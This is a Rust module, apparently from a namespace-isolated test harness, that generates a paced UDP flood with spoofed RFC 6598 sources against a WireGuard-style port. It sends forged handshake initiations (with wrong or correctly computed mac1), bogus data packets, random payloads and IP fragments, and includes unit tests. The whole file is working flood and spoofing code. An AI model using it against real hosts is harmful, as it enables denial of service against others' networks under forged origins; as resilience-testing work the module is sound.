//! A flood at a UDP port: many datagrams from sources that don't exist, at a steady rate, for
//! a limited time.
//!
//! The frames are made before it starts and put on the interface as they are, in batches. All
//! have a payload of one length, so that throwing them away costs the same whatever is in it,
//! and no UDP checksum, as if a network card had already verified it. The thread that sends
//! has precedence like a card's interrupts, so that a victim which is busy doesn't slow its
//! attacker down.

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::sleep;
use std::time::Duration;

use anyhow::{Context, Result};
use blake2::digest::consts::U16;
use blake2::digest::{KeyInit, Mac};
use blake2::{Blake2s256, Blake2sMac, Digest};

use super::pace::{Pace, TICK};
use super::sending::{Sending, Sent};
use crate::netns::Namespace;
use crate::random::Random;
use crate::sys::FrameSender;

/// Where the invented sources are: the network that RFC 6598 keeps for carriers' own use.
pub const SOURCES: &str = "100.64.0.0/10";
const FIRST_SOURCE: u32 = u32::from_be_bytes([100, 64, 0, 0]);
const ALL_SOURCES: u32 = 1 << 22;
/// How many of them there are where there are few.
const FEW_SOURCES: u32 = 16;
/// How many there are otherwise, but where each packet has its own.
const MANY_SOURCES: u32 = 1024;

/// Different frames that there are.
const FRAMES: usize = 1024;
/// Bytes of UDP payload: those of an initiation.
const PAYLOAD: usize = 148;
const ETHERNET: usize = 14;
const IPV4: usize = 20;
const UDP: usize = 8;
/// Where mac1 begins in an initiation.
const MAC1: usize = 116;
/// Where mac2 begins, which is zero without a cookie.
const MAC2: usize = 132;

/// What is in the datagrams.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Handshake initiations of somebody who doesn't know the victim's public key.
    WrongMac1,
    /// Handshake initiations of a stranger who knows it, from a few sources.
    RightMac1,
    /// The same, each from another source.
    RightMac1NewSources,
    /// Data for sessions that don't exist.
    Data,
    /// Anything at all.
    Random,
    /// Handshake initiations of somebody who doesn't know the victim's public key, each in two
    /// IP fragments.
    Fragments,
}

impl Kind {
    /// Frames of one datagram.
    fn frames(self) -> usize {
        if self == Self::Fragments { 2 } else { 1 }
    }
}

/// Whom it hits.
#[derive(Debug, Clone)]
pub struct Target {
    /// The hardware address of the interface.
    pub hardware: [u8; 6],
    /// The IP address.
    pub address: Ipv4Addr,
    /// The UDP port.
    pub port: u16,
    /// The public key.
    pub public_key: [u8; 32],
}

/// A flood under way; it ends when its time is over, when told to, or when dropped.
#[derive(Debug)]
pub struct Flood(Sending);

impl Flood {
    /// Sends `rate` packets a second out of `interface` of `namespace`, for at most `limit`.
    pub fn start(
        namespace: &Namespace,
        interface: &str,
        target: &Target,
        kind: Kind,
        rate: u32,
        limit: Duration,
    ) -> Result<Self> {
        let sender = namespace
            .run(|| FrameSender::new(interface))?
            .with_context(|| format!("can't send on {interface}"))?;
        let mut ammunition = Ammunition::new(kind, target);
        let sending = Sending::start("flood", move |told| {
            send(&sender, &mut ammunition, rate, limit, told)
        })?;
        Ok(Self(sending))
    }

    /// Ends it.
    pub fn stop(self) -> Result<Sent> {
        self.0.stop()
    }
}

/// Sends until told to stop or time is up. What the interface has no room for is lost.
fn send(
    sender: &FrameSender,
    ammunition: &mut Ammunition,
    rate: u32,
    limit: Duration,
    told: &AtomicBool,
) -> Result<Sent> {
    let (mut pace, mut packets) = (Pace::start(rate), 0);
    loop {
        let time = pace.time();
        if time >= limit || told.load(Ordering::Relaxed) {
            return Ok(Sent { packets, time });
        }
        let mut left = pace.due(time);
        while left > 0 {
            let frames = ammunition.next(left);
            let sent = sender.send(frames.iter().map(|frame| &frame[..]))?;
            packets += sent as u64;
            left -= sent.max(1);
            ammunition.advance(sent.max(1));
        }
        sleep(TICK);
    }
}

type Frame = Vec<u8>;

/// Bytes behind the IP header in the first of two fragments: a multiple of eight.
const FIRST_FRAGMENT: usize = 64;
const MORE_FRAGMENTS: u16 = 0x2000;

/// The frames, over and over.
struct Ammunition {
    frames: Vec<Frame>,
    at: usize,
    /// The next source, where each frame has a new one.
    fresh: Option<u32>,
}

impl Ammunition {
    fn new(kind: Kind, target: &Target) -> Self {
        let sources = match kind {
            Kind::RightMac1 => FEW_SOURCES,
            _ => MANY_SOURCES,
        };
        let mut random = Random::new(0x7a17);
        let datagrams = FRAMES / kind.frames();
        let frames = (0..datagrams as u32)
            .flat_map(|number| {
                let payload = payload(kind, target, &mut random);
                let whole = frame(number % sources, &payload, target);
                if kind == Kind::Fragments {
                    fragments(&whole, number as u16).to_vec()
                } else {
                    vec![whole]
                }
            })
            .collect();
        Self {
            frames,
            at: 0,
            fresh: (kind == Kind::RightMac1NewSources).then_some(MANY_SOURCES),
        }
    }

    /// The next frames, at least one and at most `most`.
    fn next(&mut self, most: usize) -> &[Frame] {
        let end = (self.at + most.max(1)).min(FRAMES);
        let frames = &mut self.frames[self.at..end];
        if let Some(fresh) = self.fresh {
            for (frame, source) in frames.iter_mut().zip(fresh..) {
                set_source(frame, source % ALL_SOURCES);
            }
        }
        frames
    }

    /// So many of them are gone.
    fn advance(&mut self, count: usize) {
        self.at = (self.at + count) % FRAMES;
        if let Some(fresh) = &mut self.fresh {
            *fresh = (*fresh + count as u32) % ALL_SOURCES;
        }
    }
}

fn payload(kind: Kind, target: &Target, random: &mut Random) -> [u8; PAYLOAD] {
    let mut payload = [0; PAYLOAD];
    random.fill(&mut payload);
    match kind {
        Kind::Random => {}
        Kind::Data => payload[..4].copy_from_slice(&[4, 0, 0, 0]),
        Kind::WrongMac1 | Kind::RightMac1 | Kind::RightMac1NewSources | Kind::Fragments => {
            payload[..4].copy_from_slice(&[1, 0, 0, 0]);
            payload[MAC2..].fill(0);
        }
    }
    if matches!(kind, Kind::RightMac1 | Kind::RightMac1NewSources) {
        let mac1 = mac1(&target.public_key, &payload[..MAC1]);
        payload[MAC1..MAC2].copy_from_slice(&mac1);
    }
    payload
}

/// The first MAC of a handshake message to the owner of `public_key` (paper §5.4.4).
fn mac1(public_key: &[u8; 32], message: &[u8]) -> [u8; 16] {
    let key = Blake2s256::new()
        .chain_update(b"mac1----")
        .chain_update(public_key)
        .finalize();
    let mac = <Blake2sMac<U16> as KeyInit>::new_from_slice(&key);
    let mut mac = mac.expect("BLAKE2s takes keys of 32 bytes");
    mac.update(message);
    mac.finalize().into_bytes().into()
}

fn frame(source: u32, payload: &[u8; PAYLOAD], target: &Target) -> Frame {
    let mut frame = vec![0; ETHERNET + IPV4 + UDP + PAYLOAD];
    let (ethernet, rest) = frame.split_at_mut(ETHERNET);
    let (ip, rest) = rest.split_at_mut(IPV4);
    let (udp, rest) = rest.split_at_mut(UDP);
    ethernet[..6].copy_from_slice(&target.hardware);
    // Made up, as it says itself: a locally administered address.
    ethernet[6..12].copy_from_slice(&[2, 0, 0, 0, 0, 1]);
    ethernet[12..].copy_from_slice(&[8, 0]);
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&((IPV4 + UDP + PAYLOAD) as u16).to_be_bytes());
    ip[8] = 64;
    ip[9] = 17;
    ip[16..].copy_from_slice(&target.address.octets());
    let source_port = 1024 + (source % 60_000) as u16;
    udp[..2].copy_from_slice(&source_port.to_be_bytes());
    udp[2..4].copy_from_slice(&target.port.to_be_bytes());
    udp[4..6].copy_from_slice(&((UDP + PAYLOAD) as u16).to_be_bytes());
    rest.copy_from_slice(payload);
    set_source(&mut frame, source);
    frame
}

/// The same datagram in two IP fragments, of a packet of this number.
fn fragments(whole: &Frame, number: u16) -> [Frame; 2] {
    let (headers, payload) = whole.split_at(ETHERNET + IPV4);
    let (first, second) = payload.split_at(FIRST_FRAGMENT);
    let part = |bytes: &[u8], place: u16| {
        let mut frame = [headers, bytes].concat();
        let ip = &mut frame[ETHERNET..];
        let length = ip.len() as u16;
        ip[2..4].copy_from_slice(&length.to_be_bytes());
        ip[4..6].copy_from_slice(&number.to_be_bytes());
        ip[6..8].copy_from_slice(&place.to_be_bytes());
        finish_header(&mut frame);
        frame
    };
    [
        part(first, MORE_FRAGMENTS),
        part(second, FIRST_FRAGMENT as u16 / 8),
    ]
}

/// Writes the source with this number, and the header's checksum anew.
fn set_source(frame: &mut Frame, source: u32) {
    let ip = &mut frame[ETHERNET..ETHERNET + IPV4];
    ip[12..16].copy_from_slice(&(FIRST_SOURCE + source).to_be_bytes());
    finish_header(frame);
}

/// Writes the header's checksum anew.
fn finish_header(frame: &mut Frame) {
    let ip = &mut frame[ETHERNET..ETHERNET + IPV4];
    ip[10..12].fill(0);
    let (words, _) = ip.as_chunks::<2>();
    let sum: u32 = words
        .iter()
        .map(|word| u32::from(u16::from_be_bytes(*word)))
        .sum();
    let sum = (sum & 0xffff) + (sum >> 16);
    let sum = (sum & 0xffff) + (sum >> 16);
    ip[10..12].copy_from_slice(&(!(sum as u16)).to_be_bytes());
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    fn target() -> Target {
        Target {
            hardware: [2, 3, 4, 5, 6, 7],
            address: Ipv4Addr::new(10, 99, 2, 1),
            port: 9000,
            public_key: [5; 32],
        }
    }

    fn source(frame: &Frame) -> [u8; 4] {
        frame[26..30].try_into().unwrap()
    }

    #[test]
    fn a_header_sums_up_to_nothing() {
        for source in [0, 1, ALL_SOURCES - 1] {
            let frame = frame(source, &[9; PAYLOAD], &target());
            let words = frame[ETHERNET..ETHERNET + IPV4].chunks(2);
            let mut sum: u32 = words
                .map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])))
                .sum();
            sum = (sum & 0xffff) + (sum >> 16);
            assert_eq!(sum, 0xffff);
        }
    }

    #[test]
    fn two_fragments_are_the_whole() {
        let whole = frame(7, &[9; PAYLOAD], &target());
        let [first, second] = fragments(&whole, 5);
        let behind = ETHERNET + IPV4;
        assert_eq!(
            [&first[behind..], &second[behind..]].concat(),
            whole[behind..]
        );
        assert_eq!(first[18..22], [0, 5, 0x20, 0]);
        assert_eq!(second[18..22], [0, 5, 0, 8]);
        assert_eq!(source(&first), source(&whole));
    }

    #[test]
    fn only_who_knows_the_key_has_the_mac() {
        let mut random = Random::new(1);
        let right = payload(Kind::RightMac1, &target(), &mut random);
        assert_eq!(right[MAC1..MAC2], mac1(&[5; 32], &right[..MAC1]));
        let wrong = payload(Kind::WrongMac1, &target(), &mut random);
        assert_eq!(wrong[..4], [1, 0, 0, 0]);
        assert_ne!(wrong[MAC1..MAC2], mac1(&[5; 32], &wrong[..MAC1]));
    }

    #[test]
    fn sources_are_few_many_or_ever_new() {
        for (kind, expected) in [
            (Kind::RightMac1, FEW_SOURCES as usize),
            (Kind::Data, MANY_SOURCES as usize),
            (Kind::RightMac1NewSources, 3000),
        ] {
            let mut ammunition = Ammunition::new(kind, &target());
            let mut seen = BTreeSet::new();
            for _ in 0..3000 {
                let frames = ammunition.next(1);
                assert_eq!(frames.len(), 1);
                seen.insert(source(&frames[0]));
                ammunition.advance(1);
            }
            assert_eq!(seen.len(), expected, "{kind:?}");
        }
    }

    #[test]
    fn a_batch_ends_with_the_frames() {
        let mut ammunition = Ammunition::new(Kind::Random, &target());
        ammunition.advance(FRAMES - 3);
        assert_eq!(ammunition.next(128).len(), 3);
        ammunition.advance(3);
        assert_eq!(ammunition.next(128).len(), 128);
    }
}
